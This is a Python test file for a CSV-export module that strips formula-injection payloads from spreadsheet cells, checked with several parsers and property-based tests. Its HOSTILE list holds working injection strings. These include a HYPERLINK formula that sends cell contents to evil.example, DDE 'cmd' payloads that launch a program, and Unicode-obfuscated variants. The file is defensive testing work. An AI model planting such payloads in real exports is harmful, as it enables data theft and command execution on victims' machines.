"""Tables for spreadsheets hold no formula, and are read as they were written."""

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text

from core.sheets import EXACT, MARK, csv_lines, inert

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ani")',
    "+6281234567890",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{RIGHT-TO-LEFT MARK}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "\N{SMALL EQUALS SIGN}1",
    "\N{MINUS SIGN}1",
    '"=1+1',
    "Ani;=1+1",
    'Ani;"=1+1',
    "Ani\r\n=1+1",
    "Ani\t@SUM(1)",
]
HARMLESS = [
    "Ani Lestari",
    "O'Brien",
    "a=b",
    "Siti, S.T.",
    "12",
    "安尼",
    "",
    "a@b.example",
]


def file_of(*rows) -> str:
    return "".join(csv_lines(["name", "number"], rows))


def is_formula(cell: str) -> bool:
    """What the rule is about, said a second time and in other words."""
    seen = cell.lstrip(
        ' "\t\r\n\N{NO-BREAK SPACE}\N{ZERO WIDTH SPACE}\N{RIGHT-TO-LEFT MARK}'
    )
    return cell[:1] in ("\t", "\r") or seen[:1] in tuple("=+-@＝＋－＠﹦−")


@pytest.mark.parametrize("name", HOSTILE)
def test_sc_08_no_cell_is_a_formula_for_whichever_separator(name):
    content = file_of([name, 1]).removeprefix(MARK)

    for separator in ",;\t":
        for line in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
            assert [cell for cell in line if is_formula(cell)] == []


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_harmless_stays_as_it_is(name):
    assert inert(name) == name


def test_sc_08_another_parser_reads_texts_quoted_and_numbers_typed(session):
    """PostgreSQL's own reader of CSV, which shares nothing with the writer."""
    content = file_of(*([name, place] for place, name in enumerate(HOSTILE)))
    session.execute(text("CREATE TEMPORARY TABLE opened (name text, number integer)"))
    cursor = session.connection().connection.driver_connection.cursor()

    with cursor.copy("COPY opened FROM STDIN (FORMAT csv, HEADER)") as copy:
        copy.write(content.removeprefix(MARK))

    opened = session.execute(text("SELECT name, number FROM opened ORDER BY number"))
    rows = [tuple(row) for row in opened]
    assert [number for _, number in rows] == list(range(len(HOSTILE)))
    assert [name for name, _ in rows if is_formula(name)] == []
    assert rows[1][0] == "'+6281234567890"


@given(st.text(), st.integers(-EXACT, EXACT))
def test_sc_08_whatever_is_written_is_one_cell_of_text_and_one_number(name, number):
    content = file_of([name, number]).removeprefix(MARK)

    reader = csv.reader(io.StringIO(content, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    _, row = list(reader)

    assert row == [inert(name), number]
    assert "".join(row[0].split("'")) == "".join(name.replace("\0", "").split("'"))


@given(st.integers(EXACT + 1) | st.integers(max_value=-EXACT - 1))
def test_a_number_that_a_spreadsheet_would_round_is_written_as_text(number):
    line = file_of(["Ani", number]).splitlines()[1]

    assert line == f'"Ani","{inert(str(number))}"'
    assert str(abs(number)) in line


def test_numbers_instants_and_nothing_keep_their_kind():
    western = timezone(timedelta(hours=7))
    row = [-5, datetime(2026, 3, 2, 9, tzinfo=western), None, "ya"]

    *_, line = csv_lines(["a", "b", "c", "d"], [row])

    assert line == '-5,"2026-03-02T02:00:00Z","","ya"\r\n'
    assert datetime(2026, 3, 2, 2, tzinfo=UTC) == row[1]


def test_lines_are_made_as_they_are_read():
    def endless():
        while True:
            yield ["Ani"]

    lines = csv_lines(["name"], endless())

    assert next(lines) == f'{MARK}"name"\r\n'
    assert next(lines) == '"Ani"\r\n'
